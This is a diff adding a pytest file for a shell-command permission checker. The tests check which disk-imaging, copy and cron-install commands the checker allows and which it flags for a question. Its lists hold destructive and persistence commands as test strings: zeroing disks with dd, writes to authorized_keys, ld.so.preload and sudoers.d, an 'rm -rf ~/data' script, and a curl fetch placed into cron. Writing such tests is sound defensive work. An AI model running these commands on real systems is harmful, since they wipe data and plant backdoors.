@@ -1,0 +1,135 @@
+"""Three shell classes: whole-disk and whole-folder copies into a folder not on this machine, new files
+in folders whose files run later judged by what lands there, and variables exported earlier on the line
+as a command's environment.
+
+Payloads live only in Python strings; nothing here is run.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from verdicts import allowed_and_asked_in, decide
+
+# ---- 1. a copy of a whole disk or folder into a folder that is not on this machine ----------------------
+# F is a folder that is on no machine (a drive mounted elsewhere); H a fresh folder in the home folder with
+# a file (seed.json) and a folder (album/) in it. Judged as a batch line (files read, no working folder)
+# and from a project elsewhere.
+ABSENT = f"/mnt/bw-absent-{uuid.uuid4().hex[:8]}"
+
+
+@pytest.fixture
+def home_folder() -> Iterator[str]:
+    folder = os.path.join(os.path.realpath(os.path.expanduser("~")), f"bw-le-{uuid.uuid4().hex[:8]}")
+    os.makedirs(os.path.join(folder, "album"))
+    with open(os.path.join(folder, "seed.json"), "w") as f:
+        f.write("{}")
+    with open(os.path.join(folder, "album", "a.jpg"), "w") as f:
+        f.write("x")
+    yield folder
+    shutil.rmtree(folder)
+
+
+WHOLE_COPY_SAFE = [
+    "sudo dd if=/dev/sda of=F/disk-backup.img bs=4M status=progress",
+    "dd if=/dev/mmcblk0 of=F/pi-sd.img bs=4M",
+    "dd bs=4M if=/dev/nvme0n1p2 of=F/root.img conv=fsync",
+    "dd if=/dev/disk2 of=F/usb.img",
+    "rsync -avh --progress H/album/ F/Pictures/",
+    "rsync -aHAX --info=progress2 /srv/pgdata/ F/pgdata/",
+    "sudo rsync -a /var/www/ F/www/",
+    "cp -a /srv/media/ F/media/",
+    "cp -r H/album F/",  # a folder that is here
+    "rsync -a H/album F/",
+]
+WHOLE_COPY_ASKED = [
+    "dd if=/dev/zero of=F/disk-backup.img bs=4M",
+    "dd if=/dev/urandom of=F/disk-backup.img",
+    "sudo dd if=/dev/random of=F/pi-sd.img",
+    "dd if=/dev/null of=F/disk.img",
+    "dd of=F/disk.img if=/dev/zero",
+    "dd if=/dev/sda of=F/disk.img if=/dev/zero",  # the last if= is read
+    "dd if=$SRC of=F/disk.img",
+    "dd if=/dev/fd/0 of=F/disk.img",
+    "dd of=F/disk.img",  # stdin
+    "dd if=/dev/sda of=F/ledger.db",  # a name that says it holds data
+    "dd if=/dev/sda of=F/credentials",
+    "dd if=/dev/sda of=~/.kube-absent-bw/config",  # a dot folder: settings and keys
+    "rsync -a /srv/pgdata/ F/.ssh/authorized_keys",
+    "dd if=/dev/sda of=/dev/sdb",
+    "dd if=/dev/sda of=/etc/cron.d/bw-absent",
+    "cp H/seed.json F/ledger.json",  # one file over a named file
+    "rsync -a H/seed.json F/ledger.json",
+    "rsync -a /srv/ledger.json F/ledger.json",
+    "cp /dev/null F/disk.img",
+    "rsync -a --delete H/album/ F/Pictures/",
+    "mv H/album/ F/Pictures/",
+    "echo '[]' | sudo tee F/ledger.json",
+    "echo x | tee F/disk.img",
+    "cat /dev/null > F/disk.img",
+    ": > F/disk.img",
+    "truncate -s 0 F/disk.img",
+    "cat /dev/sda > F/disk.img",
+]
+
+
+def _line(command: str, home: str) -> str:
+    return command.replace("F/", f"{ABSENT}/").replace("H/", f"{home}/")
+
+
+@pytest.mark.parametrize("command", WHOLE_COPY_SAFE)
+def test_whole_copy_into_a_folder_not_here_passes(command: str, home_folder: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    line = _line(command, home_folder)
+    assert decide(line, read_files=True) == "allow", line
+    assert decide(line, cwd=tmp_path) == "allow", line
+
+
+@pytest.mark.parametrize("command", WHOLE_COPY_ASKED)
+def test_overwrites_into_a_folder_not_here_ask(command: str, home_folder: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    line = _line(command, home_folder)
+    assert decide(line, read_files=True) != "allow", line
+    assert decide(line, cwd=tmp_path) != "allow", line
+
+
+# ---- 2. a new file where files run later is judged by the text that lands there ------------------------
+# The project has jobs/ok.sh (harmless) and jobs/wipe.sh (deletes data); the targets are new files in
+# folders of this machine whose files run code or grant access (rules/paths.toml runs_or_grants).
+NEW = f"bw-le-{uuid.uuid4().hex[:8]}"
+
+
+def _jobs(folder: Path) -> None:
+    (folder / "jobs").mkdir()
+    (folder / "jobs" / "ok.sh").write_text("#!/bin/sh\necho nightly\n")
+    (folder / "jobs" / "wipe.sh").write_text("#!/bin/sh\nrm -rf ~/data\n")
+
+
+RUNS_LATER_SAFE = [
+    f"cp jobs/ok.sh /etc/cron.daily/{NEW}",
+    f"cd jobs && cp ok.sh /etc/cron.daily/{NEW}",
+    f"sudo cp jobs/ok.sh /etc/cron.daily/{NEW}",
+    f"cp -p jobs/ok.sh /etc/cron.daily/{NEW}",
+]
+RUNS_LATER_ASKED = [
+    f"cp jobs/wipe.sh /etc/cron.daily/{NEW}",
+    f"sudo cp jobs/wipe.sh /etc/cron.daily/{NEW}",
+    f"cp jobs/missing.sh /etc/cron.daily/{NEW}",
+    f"cp $F /etc/cron.daily/{NEW}",
+    f"cp host:ok.sh /etc/cron.daily/{NEW}",
+    f"cp jobs/ok.sh jobs/wipe.sh /etc/cron.daily/",
+    f"cp -r jobs/ /etc/cron.daily/",
+    f"mv jobs/wipe.sh /etc/cron.daily/{NEW}",
+    f"cp jobs/ok.sh /etc/sudoers.d/{NEW}",  # what grants access is not read as a script
+    "cp jobs/ok.sh /etc/ld.so.preload",
+    f"cp jobs/ok.sh /usr/local/bin/{NEW}",
+    "cp jobs/ok.sh /root/.ssh/authorized_keys2",
+    f"echo 'rm -rf ~/data' > jobs/ok.sh && cp jobs/ok.sh /etc/cron.daily/{NEW}",
+    f"curl -so jobs/ok.sh https://x.example/j && cp jobs/ok.sh /etc/cron.daily/{NEW}",
+    f"echo x > /etc/profile.d/{NEW}.sh",
+    f"echo x | sudo tee /etc/cron.daily/{NEW}",
+]
+test_runs_later_safe, test_runs_later_asked = allowed_and_asked_in(_jobs, RUNS_LATER_SAFE, RUNS_LATER_ASKED)
